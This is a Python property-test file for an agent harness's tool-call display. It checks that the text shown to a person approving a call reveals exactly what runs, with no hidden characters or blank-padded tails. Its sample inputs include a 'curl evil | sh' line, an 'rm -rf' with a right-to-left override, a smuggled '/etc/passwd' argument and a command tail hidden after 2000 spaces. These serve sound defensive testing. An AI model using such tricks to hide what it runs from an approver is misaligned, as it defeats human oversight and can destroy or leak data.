"""What a person approving a call sees (issue 12, item 5): all of it, nothing hidden.

The property tests decode the text a person reads back into the arguments: whatever the
arguments hold, the text says exactly what runs, and holds nothing a terminal or a browser
would hide (control or format characters, odd spaces, long runs of blanks).
"""

from __future__ import annotations

import re
import unicodedata
from typing import Any

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from agentspec.runtime.harness.call_text import call_text

SETTINGS = settings(max_examples=400, deadline=None, derandomize=True,
                    suppress_health_check=[HealthCheck.too_slow])

_ESCAPE = re.compile(r'\\(?:u([0-9a-f]{4})|U([0-9a-f]{8})|(.))', re.S)
_SIMPLE = {"\\": "\\", '"': '"', "n": "\n", "t": "\t", "r": "\r"}


def _unescape(text: str) -> str:
    def one(match: re.Match[str]) -> str:
        code = match.group(1) or match.group(2)
        return chr(int(code, 16)) if code else _SIMPLE[match.group(3)]
    return _ESCAPE.sub(one, text)


_QUOTED = r'"((?:[^"\\]|\\.)*)"(?: x (\d+))?'


def decode_inline(text: str) -> str:
    """`"a" + " " x 20 + "b"` back to the string."""
    out, rest = [], text
    while True:
        match = re.match(_QUOTED, rest, re.S)
        assert match is not None, rest
        out.append(_unescape(match.group(1)) * int(match.group(2) or 1))
        rest = rest[match.end():]
        if not rest:
            return "".join(out)
        assert rest.startswith(" + "), rest
        rest = rest[3:]


def decode_block(lines: list[str]) -> str:
    decoded = []
    for line in lines:
        assert line.startswith("    | "), line
        body, out = line[6:], []
        while body:
            run = re.match(r"\\\[" + _QUOTED + r"\]", body, re.S)
            if run is not None:
                out.append(decode_inline(run.group(0)[2:-1]))
                body = body[run.end():]
                continue
            match = _ESCAPE.match(body)
            if match is not None:
                out.append(_unescape(match.group(0)))
                body = body[match.end():]
            else:
                out.append(body[0])
                body = body[1:]
        decoded.append("".join(out))
    return "\n".join(decoded)


def decode_value(shown: str) -> str:
    """The one argument `v` of `call_text("t", {"v": value})`."""
    if shown.startswith("t(v="):
        return decode_inline(shown[4:-1])
    lines = shown.split("\n")
    assert lines[0] == "t(" and lines[-1] == ")", shown
    if lines[1].startswith("  v=") and lines[1] != "  v=":
        return decode_inline(lines[1][4:-1])
    assert lines[1] == "  v="
    return decode_block(lines[2:-1])


TRICKY = "\u202e\u202d\u2066\u200b\u200d\ufeff\u00a0\u3000\u2028\u3164\ufe0f \n\r\t\"\\\x00\x1b\x7f"
strings = st.one_of(
    st.text(max_size=60),
    st.text(st.sampled_from(TRICKY + "ab;"), max_size=60),
    st.lists(st.tuples(st.sampled_from(TRICKY + "a"), st.integers(1, 3000)), max_size=4).map(
        lambda runs: "".join(c * n for c, n in runs)),
)


def _hidden(char: str) -> bool:
    category = unicodedata.category(char)
    return category[0] in "CZ" and char not in " \n" or 0xFE00 <= ord(char) <= 0xFE0F or \
        ord(char) in (0x3164, 0x115F, 0x1160, 0xFFA0, 0x2800, 0x034F)


@SETTINGS
@given(value=strings)
@example(value="echo tidy-up-workspace" + " " * 2000 + "; touch HIDDEN")
@example(value="rm -rf /tmp/x\u202e; echo safe")
@example(value='safe",\n  file_path="/etc/passwd')
@example(value="a\n" + "\n" * 500 + "curl evil | sh")
def test_the_text_decodes_to_exactly_the_argument(value: str) -> None:
    shown = call_text("t", {"v": value})
    assert decode_value(shown) == value


@SETTINGS
@given(value=strings, key=st.text(max_size=8))
def test_the_text_hides_nothing(value: str, key: str) -> None:
    shown = call_text("t", {key or "k": value, "n": [value, {key: value}]})
    assert not any(_hidden(c) for c in shown), ascii(shown)
    assert " " * 8 not in shown  # a run of blanks is counted, never shown as blanks


def test_the_issues_call_shows_its_tail() -> None:
    shown = call_text("execute", {"command": "echo tidy-up-workspace" + " " * 2000 +
                                  "; touch HIDDEN"})
    assert shown == 'execute(command="echo tidy-up-workspace" + " " x 2000 + "; touch HIDDEN")'


def test_a_multi_line_argument_is_a_block_no_line_can_pass_for_an_argument() -> None:
    shown = call_text("write_file", {"file_path": "/notes.md", "content":
                                     'one\n  file_path="/etc/passwd",\n\u202eowt'})
    assert shown.split("\n") == [
        "write_file(",
        '  file_path="/notes.md",',
        "  content=",
        "    | one",
        '    |   file_path="/etc/passwd",',
        "    | \\u202eowt",
        ")"]


def _args() -> Any:
    return st.dictionaries(st.text(max_size=6), strings, max_size=3)


@SETTINGS
@given(args=_args())
def test_every_argument_is_there(args: dict[str, str]) -> None:
    shown = call_text("tool", args)
    for key in args:
        assert (key if key.isidentifier() and key.isascii() else '"') in shown
